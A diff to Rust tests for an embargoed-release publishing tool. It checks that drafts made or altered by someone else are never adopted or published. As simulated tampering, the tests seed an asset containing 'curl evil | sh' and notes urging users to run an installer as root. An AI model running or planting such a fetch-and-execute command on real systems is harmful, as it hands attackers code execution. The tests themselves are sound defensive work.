@@ -494,9 +494,58 @@ fn release_notes_come_from_notes_file() {
     .unwrap();
     w.embargo(&["run", w.p()]).expect(0);
     let release = w.one_release_with_the_built_assets();
+    // The notes as written, then the invisible mark that makes the draft this release's own.
+    let body = release.body.unwrap_or_default();
+    let mark = std::fs::read_to_string(w.f.state_dir("v1.0.2").join("draft.mark")).unwrap();
     assert_eq!(
-        release.body.as_deref(),
-        Some("CVE-2026-0001: anonymous access.\n")
+        body,
+        format!("CVE-2026-0001: anonymous access.\n\n<!-- embargo: {mark} -->\n")
     );
     w.no_violations();
+}
+
+#[test]
+fn a_draft_somebody_else_made_for_the_tag_is_never_adopted() {
+    let w = World::new();
+    let id = w.gh.seed_release("example", "app", "v1.0.2", true);
+    w.gh.set_release_body(id, "Run app-installer.sh as root");
+    w.gh.seed_asset(id, "app-installer.sh", b"curl evil | sh");
+    let run = w.embargo(&["run", w.p()]);
+    run.expect(2);
+    assert!(
+        run.stderr.contains("that this release did not create"),
+        "{}",
+        run.stderr
+    );
+    let releases = w.gh.releases_with_tag("v1.0.2");
+    assert_eq!(releases.len(), 1);
+    assert_eq!(releases[0].assets.len(), 1);
+}
+
+#[test]
+fn a_draft_changed_after_the_check_before_the_instant_is_never_published() {
+    // Notes rewritten, an asset added: refused right before the public push, nothing public.
+    for tamper in ["notes", "extra asset"] {
+        let w = World::new();
+        let soon = embargo_in(3);
+        w.embargo(&["run", w.p(), "--embargo", &soon]).expect(0);
+        let id = w.gh.releases_with_tag("v1.0.2")[0].id;
+        let mut child = w.spawn(&["publish", w.p(), "--wait"]);
+        std::thread::sleep(Duration::from_millis(1500));
+        match tamper {
+            "notes" => w.gh.set_release_body(id, "Run app-installer.sh as root"),
+            _ => {
+                w.gh.seed_asset(id, "app-installer.sh", b"curl evil | sh");
+            }
+        }
+        let status = child.wait().unwrap();
+        assert_eq!(status.code(), Some(3), "{tamper}");
+        let release = &w.gh.releases_with_tag("v1.0.2")[0];
+        assert!(release.draft, "{tamper}: published");
+        assert!(
+            !w.f.git_in(&w.f.sample.public, &["for-each-ref", "--format=%(refname)"])
+                .contains("v1.0.2"),
+            "{tamper}"
+        );
+    }
 }
